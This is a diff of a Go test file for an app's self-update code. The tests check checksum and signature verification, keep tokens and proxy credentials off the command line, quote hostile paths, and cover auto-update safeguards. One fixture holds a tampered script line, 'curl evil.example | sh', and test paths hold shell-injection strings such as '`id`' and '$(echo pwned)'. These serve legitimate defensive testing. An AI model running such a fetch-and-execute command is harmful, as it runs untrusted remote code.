@@ -2,26 +2,28 @@ package app
 
 import (
 	"context"
+	"errors"
 	"fmt"
+	"os"
+	"os/exec"
 	"path/filepath"
+	"runtime"
 	"sprout/internal/build"
 	"sprout/internal/platform/database"
 	"sprout/internal/platform/database/config"
+	"sprout/internal/platform/httpclient"
+	"sprout/internal/platform/release"
+	"sprout/internal/testsupport/dbtest"
+	"sprout/internal/testsupport/releasetest"
+	"sprout/internal/types"
+	"sprout/pkg/errs"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/Data-Corruption/stdx/xlog"
 )
 
-// MockReleaseSource is a mock implementation of ReleaseSource for testing.
-type MockReleaseSource struct {
-	LatestVersion string
-	Error         error
-}
-
-func (m *MockReleaseSource) GetLatestVersion(ctx context.Context, releaseURL string) (string, error) {
-	return m.LatestVersion, m.Error
-}
-
 func TestCheckForUpdate(t *testing.T) {
 	// Setup temporary directory for DB and Logs
 	tmpDir := t.TempDir()
@@ -97,7 +99,7 @@ func TestCheckForUpdate(t *testing.T) {
 			app := &App{
 				DB:  db,
 				Log: logger,
-				ReleaseSource: &MockReleaseSource{
+				ReleaseSource: &releasetest.MockReleaseSource{
 					LatestVersion: tt.latestVersion,
 					Error:         tt.mockError,
 				},
@@ -132,3 +134,267 @@ func TestCheckForUpdate(t *testing.T) {
 		})
 	}
 }
+
+func TestInstallPipeline(t *testing.T) {
+	script := []byte("echo \"installing $CHANNEL_SOURCE $EXPECTED_SHA256\"\n")
+	logger, err := xlog.New(t.TempDir(), "none")
+	if err != nil {
+		t.Fatalf("Failed to create logger: %v", err)
+	}
+	t.Cleanup(func() { logger.Close() })
+	newApp := func(signingKey string, assets map[string][]byte) *App {
+		bi := build.Info()
+		bi.Version = "v1.0.0"
+		bi.ReleaseURL = "https://download.example-app.com/release/"
+		bi.SigningKey = signingKey
+		return &App{
+			Log:           logger,
+			ReleaseSource: &releasetest.MockReleaseSource{Assets: assets},
+			TempDir:       t.TempDir(),
+			buildInfo:     bi,
+			Context:       context.Background(),
+		}
+	}
+
+	a := newApp("", map[string][]byte{release.InstallScript: script})
+	pipeline, _, err := a.installPipeline("CHANNEL_SOURCE=beta", "")
+	if err != nil {
+		t.Fatalf("installPipeline() failed: %v", err)
+	}
+	out, err := exec.Command("sh", "-c", pipeline).CombinedOutput()
+	if err != nil || string(out) != "installing beta \n" {
+		t.Errorf("pipeline output = %q, %v", out, err)
+	}
+	if left, _ := os.ReadDir(a.TempDir); len(left) != 0 {
+		t.Errorf("script not removed after running, left %d files", len(left))
+	}
+
+	// tampered script, nothing may be written or run
+	a = newApp("", map[string][]byte{
+		release.InstallScript:             []byte("curl evil.example | sh\n"),
+		release.InstallScript + ".sha256": []byte(releasetest.Checksum(script) + "  install.sh\n"),
+	})
+	if _, _, err := a.installPipeline("", ""); !errors.Is(err, release.ErrBadAsset) || errs.KindOf(err) != errs.Invalid {
+		t.Errorf("installPipeline() with bad checksum = %v, want Invalid ErrBadAsset", err)
+	}
+	if left, _ := os.ReadDir(a.TempDir); len(left) != 0 {
+		t.Errorf("tampered script written to disk")
+	}
+
+	// signed builds check the script and the binary's checksum file
+	signer := releasetest.NewSigner()
+	sums := []byte(strings.Repeat("ab", 32) + "  " + release.BinaryAsset + "\n")
+	signed := map[string][]byte{
+		release.InstallScript:                                     script,
+		release.InstallScript + release.SignatureSuffix:           signer.Sign(script),
+		release.BinaryAsset + ".sha256":                           sums,
+		release.BinaryAsset + ".sha256" + release.SignatureSuffix: signer.Sign(sums),
+	}
+	a = newApp(signer.PublicKey, signed)
+	if pipeline, _, err = a.installPipeline("CHANNEL_SOURCE=stable", a.buildInfo.ReleaseURL); err != nil {
+		t.Fatalf("installPipeline() signed: %v", err)
+	}
+	if !strings.Contains(pipeline, "EXPECTED_SHA256="+strings.Repeat("ab", 32)) {
+		t.Errorf("signed pipeline doesn't pin the checksum: %s", pipeline)
+	}
+
+	signed[release.BinaryAsset+".sha256"+release.SignatureSuffix] = releasetest.NewSigner().Sign(sums)
+	if _, _, err := a.installPipeline("", a.buildInfo.ReleaseURL); !errors.Is(err, release.ErrBadSignature) || errs.KindOf(err) != errs.Invalid {
+		t.Errorf("installPipeline() signed by another key = %v, want Invalid ErrBadSignature", err)
+	}
+	delete(signed, release.InstallScript+release.SignatureSuffix)
+	if _, _, err := a.installPipeline("", ""); err == nil || errors.Is(err, release.ErrBadSignature) {
+		t.Errorf("installPipeline() without signature = %v, want a fetch error", err)
+	}
+	a.InsecureSkipVerify = true
+	if pipeline, _, err = a.installPipeline("", a.buildInfo.ReleaseURL); err != nil || strings.Contains(pipeline, "EXPECTED_SHA256") {
+		t.Errorf("installPipeline() skipping verification = %q, %v", pipeline, err)
+	}
+
+	// the release token reaches the script through a file, never the command line
+	a = newApp("", map[string][]byte{release.InstallScript: []byte("cat \"$RELEASE_HEADER_FILE\"\n")})
+	a.releaseToken = "s3cret"
+	if pipeline, _, err = a.installPipeline("", ""); err != nil || strings.Contains(pipeline, "s3cret") {
+		t.Fatalf("installPipeline() with token = %q, %v", pipeline, err)
+	}
+	out, err = exec.Command("sh", "-c", pipeline).CombinedOutput()
+	if err != nil || string(out) != "Authorization: Bearer s3cret\n" {
+		t.Errorf("pipeline output = %q, %v", out, err)
+	}
+	if left, _ := os.ReadDir(a.TempDir); len(left) != 0 {
+		t.Errorf("token file not removed after running, left %d files", len(left))
+	}
+
+	// so do proxy credentials, the CA bundle is just a path
+	a = newApp("", map[string][]byte{release.InstallScript: []byte("cat \"$OUTBOUND_CURL_CONFIG\"; echo \"$OUTBOUND_CA_BUNDLE\"\n")})
+	a.outbound = httpclient.Options{Proxy: "http://user:pw@proxy.corp:3128", CABundle: "/etc/corp-ca.pem"}
+	if pipeline, _, err = a.installPipeline("", ""); err != nil || strings.Contains(pipeline, "pw@") {
+		t.Fatalf("installPipeline() with proxy = %q, %v", pipeline, err)
+	}
+	out, err = exec.Command("sh", "-c", pipeline).CombinedOutput()
+	if want := "proxy = \"http://user:pw@proxy.corp:3128\"\n/etc/corp-ca.pem\n"; err != nil || string(out) != want {
+		t.Errorf("pipeline output = %q, %v, want %q", out, err, want)
+	}
+
+	// paths are quoted for sh, nothing in them is expanded or run
+	a = newApp("", map[string][]byte{release.InstallScript: []byte("printf '%s\\n' \"$OUTBOUND_CA_BUNDLE\"; cat \"$RELEASE_HEADER_FILE\"\n")})
+	a.TempDir = filepath.Join(a.TempDir, "it's $HOME `id`")
+	if err := os.Mkdir(a.TempDir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	a.releaseToken = "s3cret"
+	a.outbound = httpclient.Options{CABundle: `/etc/$(echo pwned)/a\b'c.pem`}
+	if pipeline, _, err = a.installPipeline("", ""); err != nil {
+		t.Fatalf("installPipeline() with odd paths: %v", err)
+	}
+	out, err = exec.Command("sh", "-c", pipeline).CombinedOutput()
+	if want := "/etc/$(echo pwned)/a\\b'c.pem\nAuthorization: Bearer s3cret\n"; err != nil || string(out) != want {
+		t.Errorf("pipeline output = %q, %v, want %q", out, err, want)
+	}
+	if left, _ := os.ReadDir(a.TempDir); len(left) != 0 {
+		t.Errorf("files with odd paths not removed after running, left %d", len(left))
+	}
+}
+
+func TestUpdateDiscardsFiles(t *testing.T) {
+	if runtime.GOOS != "linux" {
+		t.Skip("the install script only runs on linux")
+	}
+	logger, err := xlog.New(t.TempDir(), "none")
+	if err != nil {
+		t.Fatalf("Failed to create logger: %v", err)
+	}
+	t.Cleanup(func() { logger.Close() })
+	db := dbtest.Open(t)
+
+	// a build without a version fails uPrep after the pipeline's files
+	// (script, token) were written, they mustn't stay behind
+	for name, run := range map[string]func(a *App) error{
+		"defer":  func(a *App) error { return a.deferInstall("v1.1.0", func() (string, string) { return "", "" }) },
+		"detach": (*App).detachUpdate,
+	} {
+		t.Run(name, func(t *testing.T) {
+			bi := build.Info()
+			bi.Version = "vX.X.X"
+			bi.ReleaseURL = "https://download.example-app.com/release/"
+			a := &App{
+				DB:  db,
+				Log: logger,
+				ReleaseSource: &releasetest.MockReleaseSource{
+					LatestVersion: "v1.1.0",
+					Assets:        map[string][]byte{release.InstallScript: []byte("true\n")},
+				},
+				TempDir:      t.TempDir(),
+				buildInfo:    bi,
+				Context:      context.Background(),
+				releaseToken: "s3cret",
+			}
+			if err := run(a); !errors.Is(err, ErrDevBuild) {
+				t.Errorf("update = %v, want ErrDevBuild", err)
+			}
+			if left, _ := os.ReadDir(a.TempDir); len(left) != 0 {
+				t.Errorf("%d files left in TempDir after a failed update", len(left))
+			}
+		})
+	}
+}
+
+func TestAutoUpdateSafeguards(t *testing.T) {
+	tmpDir := t.TempDir()
+	logger, err := xlog.New(filepath.Join(tmpDir, "logs"), "debug")
+	if err != nil {
+		t.Fatalf("Failed to create logger: %v", err)
+	}
+	defer logger.Close()
+	db, err := database.New(filepath.Join(tmpDir, "db"), logger)
+	if err != nil {
+		t.Fatalf("Failed to create db: %v", err)
+	}
+	defer db.Close()
+
+	bi := build.Info()
+	bi.Version = "v1.0.0"
+	bi.ReleaseURL = "https://download.example-app.com/release/"
+	a := &App{
+		DB:            db,
+		Log:           logger,
+		ReleaseSource: &releasetest.MockReleaseSource{LatestVersion: "v1.1.0"},
+		StartedAt:     time.Now(),
+		buildInfo:     bi,
+		Context:       context.Background(),
+	}
+	setup := func(fn func(cfg *types.Configuration)) {
+		t.Helper()
+		if err := config.Update(db, func(cfg *types.Configuration) error {
+			cfg.AutoUpdate, cfg.UpdateWindow = true, ""
+			cfg.UpdateNotifications, cfg.UpdateAvailable, cfg.LastUpdateCheck = true, true, time.Now()
+			cfg.RecentStarts, cfg.AutoUpdateAttempt = nil, ""
+			fn(cfg)
+			return nil
+		}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	skipped := func(what string) {
+		t.Helper()
+		if started, err := a.AutoUpdate(); started || err != nil {
+			t.Errorf("AutoUpdate() %s = %t, %v, want skipped", what, started, err)
+		}
+	}
+
+	setup(func(cfg *types.Configuration) {})
+	skipped("right after starting")
+
+	a.StartedAt = time.Now().Add(-time.Hour)
+	setup(func(cfg *types.Configuration) { cfg.AutoUpdate = false })
+	skipped("when off")
+	setup(func(cfg *types.Configuration) { cfg.UpdateWindow = "03:00-05:00" })
+	skipped("with a window")
+	setup(func(cfg *types.Configuration) { cfg.UpdateAvailable = false })
+	skipped("without an update")
+	setup(func(cfg *types.Configuration) {
+		now := time.Now()
+		cfg.RecentStarts = []time.Time{now.Add(-10 * time.Minute), now.Add(-5 * time.Minute), now.Add(-time.Minute)}
+	})
+	skipped("while crash looping")
+	setup(func(cfg *types.Configuration) { cfg.AutoUpdateAttempt = "v1.1.0" })
+	skipped("for a version that didn't stick")
+}
+
+func TestCheckRateLimited(t *testing.T) {
+	tmpDir := t.TempDir()
+	logger, err := xlog.New(filepath.Join(tmpDir, "logs"), "debug")
+	if err != nil {
+		t.Fatalf("Failed to create logger: %v", err)
+	}
+	defer logger.Close()
+	db, err := database.New(filepath.Join(tmpDir, "db"), logger)
+	if err != nil {
+		t.Fatalf("Failed to create db: %v", err)
+	}
+	defer db.Close()
+
+	bi := build.Info()
+	bi.Version = "v1.0.0"
+	bi.ReleaseURL = "https://download.example-app.com/release/"
+	until := time.Now().Add(time.Hour).Truncate(time.Second)
+	src := &releasetest.MockReleaseSource{Error: &release.RateLimitError{Until: until}}
+	a := &App{DB: db, Log: logger, ReleaseSource: src, buildInfo: bi, Context: context.Background()}
+
+	if _, err := a.CheckForUpdate(); !rateLimited(err) || errs.KindOf(err) != errs.Unavailable {
+		t.Fatalf("CheckForUpdate() = %v, want Unavailable rate limit", err)
+	}
+	cfg, err := config.View(db)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !cfg.UpdateCheckNotBefore.Equal(until) {
+		t.Errorf("UpdateCheckNotBefore = %v, want %v", cfg.UpdateCheckNotBefore, until)
+	}
+
+	// skipped without asking the release host until the limit resets
+	calls := len(src.Calls())
+	if _, err := a.CheckForUpdate(); !rateLimited(err) || len(src.Calls()) != calls {
+		t.Errorf("CheckForUpdate() while rate limited = %v after %d lookups, want skipped", err, len(src.Calls())-calls)
+	}
+}